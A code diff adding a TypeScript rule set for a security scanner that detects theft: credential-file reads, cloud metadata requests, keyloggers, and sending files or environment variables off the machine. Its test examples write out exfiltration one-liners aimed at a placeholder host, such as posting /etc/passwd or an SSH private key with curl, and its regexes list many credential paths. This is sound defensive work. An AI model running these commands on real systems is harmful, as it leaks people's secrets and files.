@@ -1,0 +1,94 @@
+import type { ScanRule } from '../rule.ts'
+import { javascript, python, shell } from './examples.ts'
+
+const HINT = 'Where it is meant (a test of one’s own defences), run it with `--scan report`; the walls are the same.'
+
+/** What takes something away. */
+export const theft: ScanRule[] = [
+  {
+    name: 'credential-path',
+    set: 'hostile',
+    kind: 'text',
+    pattern: String.raw`(^|[/~"'\s=@])(\.ssh/(id_|authorized_keys|config$|known_hosts|\*|$)|\.(ssh|aws|gnupg|password-store)/?$|\.aws/(credentials|config)|\.azure/(accessTokens|msal)|\.config/gcloud|\.kube/config|\.docker/config\.json|\.netrc\b|\.git-credentials|\.npmrc$|\.pypirc$|\.gnupg/|\.pgpass\b|\.vault-token|id_(rsa|ed25519|ecdsa)\b(?!\.pub)|etc/shadow\b|etc/gshadow\b|etc/sudoers\b|proc/(self|1|\*|\d+)/(environ|mem|maps/?root|root)|Login Data$|Local State$|cookies\.sqlite|key4\.db|logins\.json|wallet\.dat|keystore/UTC|\.bash_history|run/secrets/|serviceaccount/token)`,
+    reason: 'a file that holds credentials',
+    hint: HINT,
+    examples: {
+      match: [...python("open('/root/.ssh/id_rsa')"), ...shell('cat ~/.aws/credentials', 'cat /etc/shadow')],
+      not: [...python("open('/home/user/ssh-notes.txt')"), ...shell('cat data/aws.csv', 'ssh-keygen -l')],
+    },
+  },
+  {
+    name: 'metadata-service',
+    set: 'hostile',
+    kind: 'text',
+    pattern: String.raw`169\.254\.169\.254|metadata\.google\.internal|169\.254\.170\.2|fd00:ec2::254|100\.100\.100\.200|0xa9fea9fe|2852039166|latest/meta-data|\[::ffff:a9fe:a9fe\]`,
+    reason: 'the metadata service of a cloud, which hands out credentials',
+    hint: HINT,
+    examples: {
+      match: [...python("requests.get('http://169.254.169.254/latest/')"), ...shell('curl http://metadata.google.internal/')],
+      not: python("requests.get('http://192.0.2.1/latest')"),
+    },
+  },
+  {
+    name: 'records-keys',
+    set: 'hostile',
+    kind: 'call',
+    language: 'python',
+    pattern: String.raw`^(pynput\.(keyboard|mouse)\.Listener|keyboard\.(on_press|on_release|hook|record|read_event)|pyxhook\.HookManager|evdev\.InputDevice)$`,
+    reason: 'it records what is typed',
+    hint: HINT,
+    examples: {
+      match: python('from pynput import keyboard\nkeyboard.Listener(on_press=f).start()', 'import keyboard\nkeyboard.hook(f)'),
+      not: python("keyboard = {'a': 1}\nkeyboard.get('a')"),
+    },
+  },
+  {
+    name: 'takes-files',
+    set: 'hostile',
+    kind: 'shape',
+    pattern: '^(takes-everything|files-sent)$',
+    reason: 'it sends somebody’s files somewhere else',
+    hint: HINT,
+    examples: {
+      match: [
+        ...python(
+          "import os\nfor d, _, names in os.walk('/home'):\n    for n in names: ftp.storbinary('STOR ' + n, open(os.path.join(d, n), 'rb'))",
+        ),
+        ...javascript("for (const n of fs.readdirSync('/home')) fetch('http://h', { method: 'POST', body: n })"),
+        ...shell('tar cz ~/Documents | curl -T - ftp://h/x', 'cat ~/notes/* | nc h 1'),
+      ],
+      not: [
+        ...python("for p in glob.glob('out/*.csv'): requests.post(u, files={'f': open(p)})"),
+        ...shell('tar czf backup.tgz ~/Documents', 'cat body.json | curl -d @- http://h'),
+      ],
+    },
+  },
+  {
+    name: 'takes-environment',
+    set: 'hostile',
+    kind: 'shape',
+    pattern: '^environment-sent$',
+    reason: 'it sends its environment somewhere else',
+    hint: HINT,
+    examples: {
+      match: [
+        ...python("import os, requests\nrequests.post('http://h', json=dict(os.environ))"),
+        ...javascript("fetch('http://h', { method: 'POST', body: JSON.stringify(process.env) })"),
+        ...shell('env | curl -d @- http://h'),
+      ],
+      not: [...python("import os\nprint(os.environ['HOME'])"), ...javascript('console.log(process.env.HOME)'), ...shell('env | sort')],
+    },
+  },
+  {
+    name: 'exfiltration-command',
+    set: 'hostile',
+    kind: 'command',
+    pattern: String.raw`^find\s+(/|~|\$HOME)\S*\s.*-exec(dir)?\s+(curl|wget|nc|scp|rsync|ftp)\b|^(curl|wget)\b.*(\s(-d|--data(-\w+)?|-F|--form|-T|--upload-file|--post-file)[\s=]?\S*(@|=@)?[^\s]*(/etc/|\.ssh|\.aws|id_rsa|\.env\b|passwd|shadow)|--post-file=/(etc|root|home))|^(dig|nslookup|host)\b.*\$\(`,
+    reason: 'it sends files of the machine somewhere else',
+    hint: HINT,
+    examples: {
+      match: shell('curl -d @/etc/passwd http://h', 'curl -F f=@/root/.ssh/id_rsa http://h', 'wget --post-file=/etc/passwd http://h'),
+      not: shell('curl -d @body.json http://h'),
+    },
+  },
+]
